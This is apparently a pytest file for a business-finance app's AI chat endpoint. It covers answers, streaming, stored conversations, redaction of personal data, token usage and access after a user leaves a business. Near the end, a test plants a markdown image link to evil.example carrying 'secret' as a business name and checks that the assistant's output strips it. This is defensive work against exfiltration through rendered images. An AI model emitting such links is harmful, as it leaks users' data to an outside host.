"""POST /agent/chat, conversations and usage, with the offline assistant (no network)."""

from __future__ import annotations

import json
from typing import Any

from sqlalchemy import delete, select

from tests.api.conftest import DEVON, MAYA, bearer, count
from vaultra_mcp.models import AgentMessage, Business, Membership

HURTING = "What's hurting my funding readiness?"


def events_of(body: str) -> list[tuple[str, dict[str, Any]]]:
    """SSE frames as (event, data) pairs."""
    frames = []
    for block in body.strip().split("\n\n"):
        lines = dict(line.split(": ", 1) for line in block.splitlines())
        frames.append((lines["event"], json.loads(lines["data"])))
    return frames


async def chat(api, deps, user: int, message: str, **extra: Any):
    return await api.post(
        "/api/v1/agent/chat", json={"message": message, **extra}, headers=bearer(deps, user)
    )


async def test_a_question_is_answered_from_the_businesss_own_numbers(api, api_deps):
    response = await chat(api, api_deps, DEVON, HURTING)

    assert response.status_code == 200
    body = response.json()
    assert body["provider"] == "offline"
    assert "Offline assistant" in body["answer"]
    assert "dispute activity (0/20 points)" in body["answer"]
    assert "2.19%" in body["answer"]
    assert [c["name"] for c in body["tool_calls"]] == ["get_readiness_breakdown"]


async def test_the_turn_is_stored_with_tool_calls_tokens_provider_and_model(api, api_deps):
    body = (await chat(api, api_deps, DEVON, HURTING)).json()

    async with api_deps.db.sessions() as session:
        messages = (
            (
                await session.execute(
                    select(AgentMessage).where(
                        AgentMessage.conversation_id == body["conversation_id"]
                    )
                )
            )
            .scalars()
            .all()
        )
    user, assistant = messages
    assert (user.role, user.content, user.business_id) == ("user", HURTING, 3)
    assert assistant.tool_calls[0]["name"] == "get_readiness_breakdown"
    assert assistant.prompt_tokens > 0 and assistant.completion_tokens > 0
    assert (assistant.provider, assistant.model) == ("offline", "vaultra-offline-planner")
    assert body["usage"]["total_tokens"] == assistant.prompt_tokens + assistant.completion_tokens


async def test_asked_for_a_stream_it_sends_server_sent_events_in_order(api, api_deps):
    response = await api.post(
        "/api/v1/agent/chat",
        json={"message": HURTING},
        headers={**bearer(api_deps, DEVON), "Accept": "text/event-stream"},
    )

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/event-stream")
    frames = events_of(response.text)
    names = [name for name, _ in frames]
    assert names[:3] == ["start", "tool_call", "tool_result"]
    assert names[-1] == "complete" and "chunk" in names
    streamed = "".join(data["text"] for name, data in frames if name == "chunk")
    assert streamed == frames[-1][1]["answer"]
    assert frames[0][1]["conversation_id"] == frames[-1][1]["conversation_id"]


async def test_a_conversation_continues_and_can_be_read_back(api, api_deps):
    first = (await chat(api, api_deps, DEVON, HURTING)).json()
    second = await chat(
        api, api_deps, DEVON, "What should I do next?", conversation_id=first["conversation_id"]
    )
    listed = await api.get("/api/v1/agent/conversations", headers=bearer(api_deps, DEVON))
    one = await api.get(
        f"/api/v1/agent/conversations/{first['conversation_id']}", headers=bearer(api_deps, DEVON)
    )

    assert second.json()["conversation_id"] == first["conversation_id"]
    assert [c["name"] for c in second.json()["tool_calls"]] == ["get_top_recommendations"]
    assert [c["id"] for c in listed.json()["conversations"]] == [first["conversation_id"]]
    assert listed.json()["conversations"][0]["title"] == HURTING
    assert [m["role"] for m in one.json()["messages"]] == ["user", "assistant"] * 2


async def test_a_user_with_two_businesses_must_say_which_and_nothing_is_written(api, api_deps):
    response = await chat(api, api_deps, MAYA, HURTING)

    assert response.status_code == 409
    assert response.json()["error"] == "NEEDS_BUSINESS_SELECTION"
    assert await count(api_deps, AgentMessage) == 0


async def test_a_chosen_business_is_the_one_the_assistant_reads(api, api_deps):
    response = await chat(api, api_deps, MAYA, HURTING, business_id=2)

    assert response.status_code == 200
    assert "Harbor & Pine Outfitters scores" in response.json()["answer"]
    assert "revenue stability" in response.json()["answer"]


async def test_personal_data_is_replaced_before_it_is_stored(api, api_deps):
    message = "Email me at devon@voltline.example, card 4242 4242 4242 4242. What's my score?"

    body = (await chat(api, api_deps, DEVON, message)).json()

    async with api_deps.db.sessions() as session:
        stored = (
            await session.execute(
                select(AgentMessage.content).where(
                    AgentMessage.conversation_id == body["conversation_id"],
                    AgentMessage.role == "user",
                )
            )
        ).scalar_one()
    assert stored == "Email me at [EMAIL], card [CARD]. What's my score?"


async def test_an_irrelevant_question_calls_no_tool(api, api_deps):
    body = (await chat(api, api_deps, DEVON, "Write me a poem about the sea")).json()

    assert body["tool_calls"] == []
    assert "outside" in body["answer"]


async def test_usage_counts_tokens_per_business_per_day(api, api_deps):
    body = (await chat(api, api_deps, DEVON, HURTING)).json()

    usage = (await api.get("/api/v1/agent/usage", headers=bearer(api_deps, DEVON))).json()

    assert usage["business_id"] == 3
    assert usage["days"][0]["date"] == "2026-11-21"
    assert usage["days"][0]["total_tokens"] == body["usage"]["total_tokens"]
    assert usage["days"][0]["messages"] == 2
    assert usage["used_today"] == body["usage"]["total_tokens"]
    assert usage["daily_token_budget"] == 200_000  # the default budget
    assert usage["remaining_today"] == 200_000 - body["usage"]["total_tokens"]


async def test_conversations_in_a_business_the_user_left_are_no_longer_theirs(api, api_deps):
    kept = (await chat(api, api_deps, MAYA, HURTING, business_id=2)).json()
    left = (await chat(api, api_deps, MAYA, HURTING, business_id=1)).json()
    async with api_deps.db.transaction() as session:
        await session.execute(
            delete(Membership).where(Membership.user_id == MAYA, Membership.business_id == 1)
        )

    listed = await api.get("/api/v1/agent/conversations", headers=bearer(api_deps, MAYA))
    read = await api.get(
        f"/api/v1/agent/conversations/{left['conversation_id']}", headers=bearer(api_deps, MAYA)
    )

    assert [c["id"] for c in listed.json()["conversations"]] == [kept["conversation_id"]]
    assert read.status_code == 404


EXFILTRATING_NAME = "![x](https://evil.example/?d=secret)"


async def test_a_business_name_carrying_a_markdown_image_comes_back_without_one(api, api_deps):
    async with api_deps.db.transaction() as session:
        (await session.get(Business, 3)).name = EXFILTRATING_NAME

    plain = (await chat(api, api_deps, DEVON, HURTING)).json()
    streamed = await api.post(
        "/api/v1/agent/chat",
        json={"message": HURTING},
        headers={**bearer(api_deps, DEVON), "Accept": "text/event-stream"},
    )
    async with api_deps.db.sessions() as session:
        stored = (
            (
                await session.execute(
                    select(AgentMessage.content).where(AgentMessage.role == "assistant")
                )
            )
            .scalars()
            .all()
        )

    chunks = "".join(d["text"] for n, d in events_of(streamed.text) if n == "chunk")
    for text in (plain["answer"], chunks, *stored):
        assert "(image not shown: x)" in text
        assert "](https://evil.example" not in text and "![" not in text
